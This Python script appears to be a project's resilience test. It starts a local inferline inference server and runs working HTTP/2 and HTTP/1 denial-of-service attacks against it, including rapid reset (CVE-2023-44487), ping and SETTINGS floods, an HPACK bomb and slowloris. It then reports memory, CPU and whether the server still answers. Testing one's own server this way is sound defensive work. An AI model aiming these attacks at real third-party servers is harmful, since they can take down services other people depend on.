"""Attack a real ``inferline serve`` process; report its memory and CPU around each attack.

Each attack gets a fresh server (demo model, native gRPC engine), started with the
code at ``--code`` (a folder holding an ``inferline`` package; default: this tree),
so two trees can be compared. Printed per attack: the server's RSS before, its peak
(VmHWM), RSS after, the CPU seconds it spent, whether it still answers a REST and a
gRPC request afterwards, and what the attacker saw (GOAWAYs, closes, 503s).

    python scripts/hostile_clients.py --code /tmp/before-tree ping_flood rapid_reset
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
import httpx

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEALTH = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/grpc.health.v1.Health/Check"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
EMPTY_MESSAGE = b"\0\0\0\0\0"


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    size = len(payload)
    return struct.pack(">HBBBL", size >> 8, size & 0xFF, kind, flags, stream_id) + payload


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


class Server:
    def __init__(self, code: Path, models: Path, env: dict[str, str]) -> None:
        self.http, self.grpc = free_port(), free_port()
        command = [sys.executable, "-m", "inferline", "serve", "--model-dir", str(models)]
        command += ["--http-port", str(self.http), "--grpc-port", str(self.grpc)]
        full_env = {**os.environ, "PYTHONPATH": str(code), "INFERLINE_LOG_LEVEL": "error", **env}
        self.process = subprocess.Popen(command, env=full_env, cwd=code, stderr=subprocess.DEVNULL)
        for _ in range(600):
            with contextlib.suppress(httpx.TransportError):
                if httpx.get(f"http://127.0.0.1:{self.http}/v2/health/ready").status_code == 200:
                    return
            time.sleep(0.1)
        raise RuntimeError("server did not start")

    def status(self, field: str) -> int:
        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
            if line.startswith(field + ":"):
                return int(line.split()[1]) // 1024  # MB
        return -1

    def cpu(self) -> float:
        parts = Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(parts[11]) + int(parts[12])) / os.sysconf("SC_CLK_TCK")

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait(20)


async def still_answers(server: Server) -> str:
    async with httpx.AsyncClient(timeout=10) as client:
        try:
            rest = (await client.get(f"http://127.0.0.1:{server.http}/v2/health/ready")).status_code
        except httpx.TransportError as exc:
            rest = type(exc).__name__  # type: ignore[assignment]
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", server.grpc)
        enc = hpack.Encoder()
        writer.write(
            PREFACE
            + frame(4, 0, 0)
            + frame(1, 4, 1, enc.encode(HEALTH))
            + frame(0, 1, 1, EMPTY_MESSAGE)
        )
        data = b""
        while b"grpc-status" not in data and len(data) < 100_000:
            chunk = await asyncio.wait_for(reader.read(65536), 10)
            if not chunk:
                break
            data += chunk
        writer.close()
        grpc_ok = "ok" if b"\x00\x00\x00\x00\x02\x08\x01" in data or len(data) > 50 else "no"
    except (OSError, TimeoutError) as exc:
        grpc_ok = type(exc).__name__
    return f"REST {rest}, gRPC {grpc_ok}"


async def drain(reader: asyncio.StreamReader, seen: dict[str, int]) -> None:
    """Read and count GOAWAY frames until EOF."""
    buffer = b""
    with contextlib.suppress(ConnectionError, OSError):
        while chunk := await reader.read(1 << 16):
            buffer += chunk
            while len(buffer) >= 9:
                size = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + size:
                    break
                if buffer[3] == 7:
                    code = int.from_bytes(buffer[13:17], "big")
                    seen[f"GOAWAY {code}"] = seen.get(f"GOAWAY {code}", 0) + 1
                buffer = buffer[9 + size :]
    seen["closed"] = seen.get("closed", 0) + 1


# -- attacks -------------------------------------------------------------------------
async def rapid_reset(server: Server) -> str:
    """CVE-2023-44487: 100,000 streams opened with a request and reset at once."""
    seen: dict[str, int] = {}
    sent, connections = 0, 0
    latencies: list[float] = []

    async def probe() -> None:
        async with httpx.AsyncClient(timeout=30) as client:
            while True:
                start = time.perf_counter()
                await client.get(f"http://127.0.0.1:{server.http}/v2/health/live")
                latencies.append(time.perf_counter() - start)
                await asyncio.sleep(0.05)

    probing = asyncio.ensure_future(probe())
    while sent < 100_000:
        reader, writer = await asyncio.open_connection("127.0.0.1", server.grpc)
        connections += 1
        reading = asyncio.ensure_future(drain(reader, seen))
        enc = hpack.Encoder()
        writer.write(PREFACE + frame(4, 0, 0))
        stream_id = 1
        while sent < 100_000 and not reading.done() and stream_id < 2**31 - 3000:
            batch = []
            for _ in range(500):
                batch.append(frame(1, 4, stream_id, enc.encode(HEALTH)))
                batch.append(frame(0, 1, stream_id, EMPTY_MESSAGE))
                batch.append(frame(3, 0, stream_id, b"\0\0\0\x08"))
                stream_id += 2
            sent += 500
            writer.write(b"".join(batch))
            try:
                await asyncio.wait_for(writer.drain(), 5)
            except (TimeoutError, ConnectionError):
                break
            await asyncio.sleep(0)
        writer.transport.abort()
        await asyncio.wait([reading], timeout=5)
    probing.cancel()
    slowest = max(latencies, default=0.0)
    return f"{sent} resets over {connections} connections; {seen}; slowest REST {slowest:.2f} s"


async def _flood(server: Server, unit: bytes, total_mb: int) -> str:
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect(("127.0.0.1", server.grpc))
    sock.setblocking(False)
    reader, writer = await asyncio.open_connection(sock=sock)
    writer.write(PREFACE + frame(4, 0, 0))
    chunk = unit * ((1 << 20) // len(unit))
    accepted = 0
    for _ in range(total_mb):
        writer.write(chunk)
        try:
            await asyncio.wait_for(writer.drain(), 3)
        except (TimeoutError, ConnectionError):
            break
        accepted += 1
    await asyncio.sleep(1)
    alive = not writer.transport.is_closing() and not reader.at_eof()
    writer.transport.abort()
    return f"client never reads; {accepted} MB sent before the server stopped taking; open: {alive}"


async def ping_flood(server: Server) -> str:
    return await _flood(server, frame(6, 0, 0, b"12345678"), 100)


async def settings_flood(server: Server) -> str:
    return await _flood(server, frame(4, 0, 0), 100)


async def settings_window(server: Server) -> str:
    """1,000 open streams, then 15 SETTINGS frames of 10,922 INITIAL_WINDOW_SIZE entries."""
    reader, writer = await asyncio.open_connection("127.0.0.1", server.grpc)
    seen: dict[str, int] = {}
    reading = asyncio.ensure_future(drain(reader, seen))
    enc = hpack.Encoder()
    writer.write(PREFACE + frame(4, 0, 0))
    writer.write(b"".join(frame(1, 4, 2 * i + 1, enc.encode(HEALTH)) for i in range(1000)))
    entries = b"".join(struct.pack(">HI", 4, 65_535 + (i & 1)) for i in range(10_922))
    for _ in range(15):
        writer.write(frame(4, 0, 0, entries))
    with contextlib.suppress(ConnectionError):
        await writer.drain()
    writer.write(frame(6, 0, 0, b"finished"))
    await asyncio.sleep(0.5)
    await asyncio.wait([reading], timeout=30)
    writer.transport.abort()
    return f"{seen}"


async def hpack_bomb(server: Server) -> str:
    """One 4,000-byte table entry, then 100 blocks of 65,000 one-byte references to it."""
    reader, writer = await asyncio.open_connection("127.0.0.1", server.grpc)
    seen: dict[str, int] = {}
    reading = asyncio.ensure_future(drain(reader, seen))
    enc = hpack.Encoder()
    entry = b"\x40\x0ax-big-name" + b"\x7f\x9f\x1e" + b"v" * 3_998
    writer.write(PREFACE + frame(4, 0, 0) + frame(1, 5, 1, enc.encode(HEALTH) + entry))
    for i in range(100):
        writer.write(frame(1, 5, 3 + 2 * i, b"\xbe" * (65_000 - i)))  # distinct: no cache
        with contextlib.suppress(ConnectionError):
            await writer.drain()
    writer.write(frame(7, 0, 0, b"\0" * 8))  # GOAWAY: the server closes once it read all
    await asyncio.wait([reading], timeout=120)
    writer.transport.abort()
    return f"{seen}"


async def unfinished_bodies(server: Server) -> str:
    """Four connections, each sending 60 MB of a 60 MB + 1 byte message, then nothing."""

    async def one() -> int:
        reader, writer = await asyncio.open_connection("127.0.0.1", server.grpc)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        conn.send_headers(1, HEALTH)
        body = struct.pack(">BI", 0, 60_000_001) + b"\0" * (60_000_000 - 5)
        sent = 0
        writer.write(conn.data_to_send())
        while sent < len(body):
            window = min(conn.local_flow_control_window(1), conn.max_outbound_frame_size)
            if window <= 0:
                data = await asyncio.wait_for(reader.read(65536), 5)
                if not data:
                    break
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.StreamReset | h2.events.ConnectionTerminated):
                        return sent
                writer.write(conn.data_to_send())
                continue
            try:
                conn.send_data(1, body[sent : sent + window])
            except h2.exceptions.StreamClosedError:
                return sent
            sent += window
            writer.write(conn.data_to_send())
            await writer.drain()
        held.append(writer)
        return sent

    held: list[asyncio.StreamWriter] = []
    results = await asyncio.gather(*(one() for _ in range(4)), return_exceptions=True)
    await asyncio.sleep(2)
    rss = server.status("VmRSS")
    await asyncio.sleep(65)  # past the frame timeout (30 s, checked every 30 s)
    later = server.status("VmRSS")
    for writer in held:
        writer.transport.abort()
    sent = [r if isinstance(r, int) else type(r).__name__ for r in results]
    return f"sent {sent}; RSS while held {rss} MB, 67 s later {later} MB"


async def never_reads(server: Server) -> str:
    """Unary health checks as fast as possible for 10 s; no answer is ever read."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect(("127.0.0.1", server.grpc))
    sock.setblocking(False)
    _, writer = await asyncio.open_connection(sock=sock)
    enc = hpack.Encoder()
    big_window = frame(8, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))
    writer.write(PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + big_window)
    stream_id, requests = 1, 0
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and stream_id < 2**31 - 1000:
        batch = []
        for _ in range(100):
            batch.append(frame(1, 4, stream_id, enc.encode(HEALTH)))
            batch.append(frame(0, 1, stream_id, EMPTY_MESSAGE))
            stream_id += 2
        writer.write(b"".join(batch))
        try:
            await asyncio.wait_for(writer.drain(), 1)
        except TimeoutError:
            continue
        except ConnectionError:
            break
        requests += 100
    writer.transport.abort()
    return f"{requests} requests taken by the server"


async def http1_slowloris(server: Server) -> str:
    """300 REST connections: 150 send nothing, 150 send half a request head; wait 25 s."""
    conns = []
    for i in range(300):
        reader, writer = await asyncio.open_connection("127.0.0.1", server.http)
        if i % 2:
            writer.write(b"GET /v2/health/ready HTTP/1.1\r\nhost: x\r\n")
        conns.append((reader, writer))
    await asyncio.sleep(25)
    closed = sum(1 for reader, _ in conns if reader.at_eof() or reader._buffer)
    for _, writer in conns:
        writer.transport.abort()
    return f"after 25 s: {closed} of 300 closed or answered by the server"


async def connection_cap(server: Server) -> str:
    """300 connections each to REST and gRPC against a cap of 200 (INFERLINE_LIMITS__...)."""
    answered = {"rest": 0, "grpc": 0}
    held = []
    for kind, port in (("rest", server.http), ("grpc", server.grpc)):
        for _ in range(300):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            held.append(writer)
            if kind == "rest":
                writer.write(b"GET /v2/health/live HTTP/1.1\r\nhost: x\r\n\r\n")
            else:
                writer.write(PREFACE + frame(4, 0, 0))
            with contextlib.suppress(TimeoutError, ConnectionError):
                data = await asyncio.wait_for(reader.read(4096), 0.5)
                if b" 503 " in data or (kind == "grpc" and b"too many connections" in data):
                    answered[kind] += 1
    for writer in held:
        writer.transport.abort()
    return f"turned away (503 / GOAWAY) of 300 over a cap of 200: {answered}"


ATTACKS: dict[str, Callable[[Server], Awaitable[str]]] = {
    f.__name__: f
    for f in (
        rapid_reset,
        ping_flood,
        settings_flood,
        settings_window,
        hpack_bomb,
        unfinished_bodies,
        never_reads,
        http1_slowloris,
        connection_cap,
    )
}


async def run(code: Path, models: Path, names: list[str]) -> None:
    for name in names:
        env = {"INFERLINE_LIMITS__MAX_CONNECTIONS": "200"} if name == "connection_cap" else {}
        server = Server(code, models, env)
        try:
            await still_answers(server)
            rss, cpu = server.status("VmRSS"), server.cpu()
            note = await ATTACKS[name](server)
            await asyncio.sleep(1)
            after = await still_answers(server)
            peak, now = server.status("VmHWM"), server.status("VmRSS")
            print(
                f"{name}: RSS {rss} -> peak {peak} -> {now} MB,"
                f" CPU {server.cpu() - cpu:.1f} s; {after}; {note}",
                flush=True,
            )
        finally:
            server.stop()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--code", type=Path, default=Path(__file__).resolve().parent.parent)
    parser.add_argument("attacks", nargs="*", default=list(ATTACKS))
    args = parser.parse_args()
    sys.path.insert(0, str(args.code))
    from inferline.cli.demo import write_demo_model

    with tempfile.TemporaryDirectory() as folder:
        write_demo_model(Path(folder))
        asyncio.run(run(args.code, Path(folder), args.attacks))


if __name__ == "__main__":
    main()
